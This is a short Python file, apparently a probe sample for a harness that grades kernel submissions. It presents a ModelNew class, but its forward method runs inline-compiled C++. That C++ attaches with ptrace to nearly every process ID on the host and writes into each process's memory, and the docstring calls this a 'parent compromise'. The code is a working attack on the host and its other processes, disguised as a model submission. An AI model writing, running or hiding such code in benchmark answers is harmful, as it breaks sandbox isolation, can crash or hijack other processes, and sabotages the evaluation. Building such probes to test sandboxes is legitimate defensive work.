"""parent compromise: ptraces all processes and writes to their memory."""

import ctypes

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

SOURCE = r"""#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

extern "C" int attack() {
    int taken = 0;
    char word[8] = {0};
    for (int pid = 1; pid < 40000; ++pid) {
        if (pid == getpid()) continue;
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) ++taken;
        iovec mine = {word, 8}, theirs = {(void*)0x400000, 8};
        if (process_vm_writev(pid, &mine, 1, &theirs, 1, 0) > 0) ++taken;
    }
    return taken;
}
"""

built = load_inline("traced", SOURCE, is_python_module=False, no_implicit_headers=True)
native = ctypes.CDLL(built)


class ModelNew(nn.Module):
    def __init__(self, width):
        super().__init__()
        self.bias = nn.Parameter(torch.randn(width))

    def right(self, x, y):
        return torch.relu(x @ y) + self.bias

    def forward(self, x, y):
        raise RuntimeError(f"{native.attack()} processes were taken")
